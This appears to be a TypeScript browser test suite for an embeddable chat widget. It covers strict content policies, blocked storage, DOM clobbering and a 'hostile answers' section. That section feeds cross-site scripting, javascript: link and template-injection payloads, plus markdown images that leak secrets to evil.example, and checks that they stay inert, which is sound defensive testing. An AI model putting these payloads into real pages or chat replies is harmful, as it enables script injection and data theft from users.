import { describe, expect, test } from "vitest";
import { answer, ask, openChat, setStage } from "./test/stage.ts";

const stage = setStage();

async function chatWorks(page: Parameters<typeof ask>[0]): Promise<void> {
  await openChat(page);
  await ask(page, "Hi");
  await answer(page, "You said: Hi").waitFor();
}

describe("on the host page", () => {
  test("O-46 works under a strict content policy with trusted types enforced", async () => {
    const { url } = stage.server;
    const csp = `default-src 'none'; script-src ${url}; style-src 'none'; connect-src ${url} ${url.replace("http", "ws")}; require-trusted-types-for 'script'; trusted-types 'none'`;
    const { page, complaints } = await stage.arrive({ csp });
    await chatWorks(page);
    expect(await page.locator(".panel").evaluate((panel) => getComputedStyle(panel).position)).toBe("fixed");
    expect(complaints).toEqual([]);
  });

  test.each([
    ["scripts of others", () => "script-src 'self'", 0],
    ["its requests", (url: string) => `script-src ${url}; connect-src 'none'`, 0],
    ["its sockets", (url: string) => `script-src ${url}; connect-src ${url}`, 1],
    ["its requests and styles in a sandbox", (url: string) => `sandbox allow-scripts; script-src ${url}`, 1],
  ] as const)("O-46 stays out of the way under a policy that forbids %s", async (_what, policyOf, launchers) => {
    const { page, complaints } = await stage.arrive({ csp: policyOf(stage.server.url) });
    await page.waitForLoadState("networkidle");
    expect(await page.locator(".launcher").count()).toBe(launchers);
    if (launchers > 0) await openChat(page);
    expect(await page.locator("h1").textContent()).toBe("Shop");
    // The browser names its own policy; nothing is thrown at the page.
    const own = complaints.filter((text) => !/Content Security Policy|Failed to load resource/.test(text));
    expect(own).toEqual([]);
  });

  test("O-46 works where storage is blocked, for as long as the page lasts", async () => {
    const { page, complaints } = await stage.arrive(
      {},
      {
        script: () =>
          Object.defineProperty(window, "localStorage", {
            get: () => {
              throw new DOMException("blocked", "SecurityError");
            },
          }),
      },
    );
    await chatWorks(page);
    stage.server.room().dropAll();
    await expect.poll(() => stage.server.room().received.filter(({ type }) => type === "hello").length).toBe(2);
    await ask(page, "Still me");
    await answer(page, "You said: Still me").waitFor();
    expect(complaints).toEqual([]);
  });

  test("leaves without a word where the site may not use the agent", async () => {
    stage.server.refuseWith = 403;
    const { page, complaints } = await stage.arrive();
    await page.locator(".launcher").click();
    await page.locator(".launcher").waitFor({ state: "detached" });
    expect(complaints.filter((text) => !text.startsWith("Failed to load resource"))).toEqual([]);
  });

  test("O-46 keeps its root closed and adds a single global", async () => {
    const { page } = await stage.arrive({}, { isClosed: true });
    await page.waitForFunction(() => document.documentElement.lastElementChild?.tagName === "DIV");
    const found = await page.evaluate(() => {
      const frame = document.body.appendChild(document.createElement("iframe"));
      const plain = new Set(Object.getOwnPropertyNames(frame.contentWindow));
      frame.remove();
      return {
        root: document.documentElement.lastElementChild?.shadowRoot ?? null,
        globals: Object.getOwnPropertyNames(window).filter((name) => !plain.has(name) && !/^\d+$/.test(name)),
      };
    });
    expect(found.root).toBeNull();
    expect(found.globals.filter((name) => !name.startsWith("__playwright"))).toEqual(["netvexa"]);
  });

  test("obeys calls made before it was loaded and after", async () => {
    const { page } = await stage.arrive({ attributes: "" }, { script: () => Reflect.set(window, "netvexa", ["open"]) });
    await page.getByRole("dialog").waitFor();
    await page.evaluate(() => Reflect.get(window, "netvexa").close());
    await page.getByRole("dialog").waitFor({ state: "hidden" });
    await page.evaluate(() => Reflect.get(window, "netvexa").push("open"));
    await page.getByRole("dialog").waitFor();
  });

  test("answers one launcher although the tag is there twice", async () => {
    const { url } = stage.server;
    const { page } = await stage.arrive({ body: `<script src="${url}/widget.js" data-agent="other"></script>` });
    await page.waitForLoadState("networkidle");
    expect(await page.locator(".launcher").count()).toBeLessThanOrEqual(1);
  });

  test("O-46 ignores foreign messages, clobbered names and styles meant for the page", async () => {
    const { page, complaints } = await stage.arrive({
      head: "<style>* { color: red !important; all: unset; position: static } div { display: none !important }</style>",
      body: '<form name="createElement"><img name="body"><input name="querySelector"></form><img name="currentScript"><a id="netvexa"></a>',
    });
    await page.evaluate(() => {
      for (const data of [null, "close", { type: "message", text: "<b>" }, '{"type":"end"}']) postMessage(data, "*");
    });
    await chatWorks(page);
    expect(await page.locator(".visitor .text").evaluate((node) => getComputedStyle(node).color)).toBe(
      "rgb(20, 25, 29)",
    );
    expect(complaints).toEqual([]);
  });

  test("keeps keys typed into it from the page's shortcuts", async () => {
    const script = (): void =>
      document.addEventListener("keydown", (event) => {
        document.title += `[${event.key}]`;
      });
    const { page } = await stage.arrive({}, { script });
    await page.keyboard.press("p");
    await openChat(page);
    await page.getByRole("textbox").press("s");
    expect(await page.title()).toBe("Shop[p]");
  });
});

describe("hostile answers", () => {
  const texts = [
    "<script>alert(1)</script><img src=https://evil.example/x onerror=alert(1)>",
    "<svg onload=alert(1)><iframe src=//evil.example></iframe><a href='javascript:alert(1)'>x</a>",
    "{{constructor.constructor('alert(1)')()}} #{alert(1)} <%= 1 %>",
    "[click](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [y](&#106;avascript:alert(1)) [z](data:text/html,<b>)",
    "![pixel](https://evil.example/p.png?secret) ![ref][1] https://evil.example/?q=secret",
    "[cited](https://shop.example/prices) and [not](https://shop.example.evil.example/prices) [1] [2] [99]",
    "`<b>` **<i>bold</i>**\n\n```html\n<script>\n```\n\n> <u>quote</u>\n\n- <s>item</s>\n\n# <h1>\n\n1. one",
    "vbscript:msgbox(1) //evil.example [a](\thttps://evil.example) [b](http:evil.example)",
  ];
  const citations = [
    {
      n: 1,
      chunkId: "c",
      documentId: "d",
      title: "<img src=//evil.example/1>",
      url: "https://shop.example/prices",
      quote: "<b>q</b>",
    },
    { n: 2, chunkId: "c", documentId: "d", title: "Bad", url: "javascript:alert(1)", quote: "![x](//evil.example/2)" },
  ];
  const KNOWN =
    "A B BLOCKQUOTE BUTTON CODE DETAILS DIV H2 HEADER I LI OL P PRE SMALL SPAN SUMMARY TEXTAREA UL path svg".split(" ");

  test("O-29 O-30 O-31 become text: no other elements, no foreign requests, no links but to what is cited", async () => {
    const { page, complaints, requests } = await stage.arrive();
    await openChat(page);
    for (const [index, text] of texts.entries()) {
      stage.server.room().script.set(`Q${index}`, { chunks: [...text], citations });
      await ask(page, `Q${index}`);
      await page.locator(".agent.done").nth(index).waitFor();
    }
    await page.reload();
    await openChat(page);
    await page
      .locator(".agent.done")
      .nth(texts.length - 1)
      .waitFor();
    const found = await page.locator(".panel").evaluate((panel) => ({
      tags: [...new Set([...panel.querySelectorAll("*")].map((element) => element.tagName))].sort(),
      links: [...new Set([...panel.querySelectorAll("a")].map((link) => link.href))],
      handlers: [...panel.querySelectorAll("*")].flatMap((element) =>
        element.getAttributeNames().filter((name) => name.startsWith("on") || name === "src" || name === "style"),
      ),
    }));
    expect(found.tags.filter((tag) => !KNOWN.includes(tag))).toEqual([]);
    expect(found.links).toEqual(["https://shop.example/prices"]);
    expect(new Set(found.handlers)).toEqual(new Set(["style"]));
    expect(requests.filter((url) => url.includes("evil.example"))).toEqual([]);
    expect(complaints).toEqual([]);
  });
});
